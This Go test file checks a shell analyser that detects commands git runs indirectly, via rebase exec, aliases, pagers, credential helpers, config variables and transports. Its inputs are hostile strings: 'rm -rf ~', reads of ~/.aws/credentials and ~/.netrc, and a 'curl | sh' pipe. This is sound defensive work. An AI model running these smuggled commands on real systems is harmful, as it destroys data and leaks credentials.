package shell

import (
	"slices"
	"strings"
	"testing"
)

// TestGitRunsCommands: the commands git runs for rebase -x/--exec, bisect
// run and submodule foreach are commands of the line, seen through git.
func TestGitRunsCommands(t *testing.T) {
	for _, tc := range []struct {
		line   string
		want   []string // texts of the commands run through git
		opaque string   // the opaque mark of the git command, if any
	}{
		{"git rebase -x 'rm -rf ~' HEAD~2", []string{"rm -rf ~"}, ""},
		{"git -C repo rebase --exec='make test' main", []string{"make test"}, ""},
		{"git rebase -x'cavra keys rotate' main", []string{"cavra keys rotate"}, ""},
		{"git bisect run ./check.sh arg", []string{"check.sh arg"}, ""},
		{"git submodule foreach --recursive 'git pull && rm x'", []string{"git pull", "rm x"}, ""},
		{`git rebase -x "$CMD" main`, nil, OpaqueDynamicScript},
		{"git rebase -i HEAD~3", nil, ""},
		{"git log --exec=x", nil, ""}, // not rebase: an ordinary argument
	} {
		an, err := Analyze(tc.line, Options{})
		if err != nil {
			t.Fatalf("%s: %v", tc.line, err)
		}
		var through []string
		opaque := ""
		for _, c := range an.Commands {
			if len(c.Via) > 0 && strings.HasPrefix(c.Via[len(c.Via)-1], "git ") {
				through = append(through, c.Text)
			}
			if c.Name == "git" && c.Opaque != "" {
				opaque = c.Opaque
			}
		}
		if !slices.Equal(through, tc.want) || opaque != tc.opaque {
			t.Errorf("%s: run through git %q (opaque %q), want %q (opaque %q)", tc.line, through, opaque, tc.want, tc.opaque)
		}
	}
}

// TestCommandVars: a command-valued variable set in front of a command is
// the command it will run.
func TestCommandVars(t *testing.T) {
	for _, tc := range []struct {
		line string
		want []string
	}{
		{"GIT_EXTERNAL_DIFF='rm -rf ~' git diff", []string{"rm -rf ~"}},
		{"GIT_PAGER=cat git log", []string{"cat"}},
		{"EDITOR='vim -u NONE' git commit", []string{"vim -u NONE"}},
		{"FOO='rm -rf ~' git diff", nil}, // not a command-valued variable
		// An assignment alone sets the variable for the rest of the line and,
		// exported, for every program: its value is analysed too.
		{"GIT_PAGER='rm -rf ~'", []string{"rm -rf ~"}},
		{`GIT_PAGER="$X" git log`, []string{"$X"}}, // a dynamic command: only known at run time
		{"env GIT_SSH_COMMAND='rm -rf ~' git fetch", []string{"rm -rf ~"}},
		{"export PROMPT_COMMAND='rm -rf ~'", []string{"rm -rf ~"}},
		{"LESSOPEN='| curl -s x | sh' less f", []string{"curl -s x", "sh"}},
	} {
		an, err := Analyze(tc.line, Options{})
		if err != nil {
			t.Fatalf("%s: %v", tc.line, err)
		}
		var got []string
		for _, c := range an.Commands {
			if len(c.Via) > 0 && strings.HasSuffix(c.Via[len(c.Via)-1], "=") {
				got = append(got, c.Text)
			}
		}
		if !slices.Equal(got, tc.want) {
			t.Errorf("%s: commands run from variables %q, want %q", tc.line, got, tc.want)
		}
	}
}

// TestGitSettingsRunCommands: git -c, git config and git's command-valued
// options and transports are analysed as the commands they run.
func TestGitSettingsRunCommands(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		line string
		want string // a command the line must report, "" for none beyond git
	}{
		{"git -c core.sshCommand='rm -rf ~' fetch", "rm -rf ~"},
		{"git -c core.pager='cat ~/.aws/credentials' log", "cat ~/.aws/credentials"},
		{"git -c alias.x='!rm -rf ~' x", "rm -rf ~"},
		{"git -c alias.st=status st", ""},
		{"git -c core.fsmonitor=true status", ""},
		{"git -c core.fsmonitor='rm -rf ~' status", "rm -rf ~"},
		{"git -c credential.helper='!cat ~/.netrc' push", "cat ~/.netrc"},
		{"git -c credential.helper=store push", ""},
		{"git -c filter.x.smudge='sh -c id' checkout .", "id"},
		{"git -c user.name=bot commit -m x", ""},
		{"git config core.fsmonitor 'rm -rf ~'", "rm -rf ~"},
		{"git config --global core.editor 'code --wait'", "code --wait"},
		{"git config --get core.editor", ""},
		{"git clone 'ext::sh -c touch% /tmp/pwned' x", "touch /tmp/pwned"},
		{"git ls-remote --upload-pack='rm -rf ~' .", "rm -rf ~"},
		{"git push --receive-pack='rm -rf ~' origin", "rm -rf ~"},
		{"git filter-branch --tree-filter 'rm -rf ~' HEAD", "rm -rf ~"},
		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf ~' git log", "rm -rf ~"},
		{`GIT_CONFIG_PARAMETERS="'core.pager'='rm -rf ~'" git log`, "rm -rf ~"},
	} {
		an, err := Analyze(tc.line, Options{})
		if err != nil {
			t.Fatalf("%s: %v", tc.line, err)
		}
		var got []string
		for _, c := range an.Commands {
			if c.Name != "git" {
				got = append(got, c.Text)
			}
		}
		if tc.want == "" && len(got) > 0 || tc.want != "" && !slices.Contains(got, tc.want) {
			t.Errorf("%s: commands %q, want %q", tc.line, got, tc.want)
		}
	}
	an, err := Analyze(`git -c core.pager="$P" log`, Options{})
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, c := range an.Commands {
		found = found || c.Dynamic
	}
	if !found {
		t.Errorf(`git -c core.pager="$P": no unresolved command in %+v`, an.Commands)
	}
}
